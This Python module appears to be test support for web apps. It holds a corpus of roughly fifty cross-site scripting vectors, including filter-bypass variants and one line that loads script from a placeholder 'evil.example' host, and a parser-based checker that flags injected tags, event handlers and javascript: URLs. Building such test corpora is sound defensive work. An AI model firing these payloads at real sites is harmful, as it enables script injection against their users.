"""A corpus of XSS payloads and a check that none of them became live HTML in a page."""

from html.parser import HTMLParser

_VECTORS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<p onmouseover=alert(1)>hover</p>",
    "<span onclick=alert(1)>click</span>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>custom</x>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "${alert(1)}<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
]
_WRAPPERS = ["{}", "Text {} Text", "<p>{}</p>", "<strong>{}</strong>", "😀 Ünïcödé 漢字 {}"]

PAYLOADS: list[str] = [wrapper.format(vector) for vector in _VECTORS for wrapper in _WRAPPERS[:3]]
PAYLOADS += [_WRAPPERS[4].format(vector) for vector in _VECTORS[:20]]
assert len(PAYLOADS) >= 100

_DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "base", "meta", "link", "style",
                   "form", "input", "video", "audio", "source", "marquee", "isindex", "template", "x", "details"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        if tag in _DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name in ("href", "src", "action", "data", "background", "xlink:href", "srcdoc") and value:
                compact = "".join(value.split()).lower()
                if compact.startswith(("javascript:", "data:text/html", "vbscript:")) or name == "srcdoc":
                    self.problems.append(f"<{tag} {name}={value[:30]}>")


def injected_html(html: str, allowed: tuple[str, ...] = ()) -> list[str]:
    """Every live tag or attribute in `html` that a payload could have injected (beyond `allowed` tags)."""
    collector = _Collector()
    collector.feed(html)
    return [problem for problem in collector.problems if problem.strip("<>").split()[0] not in allowed]
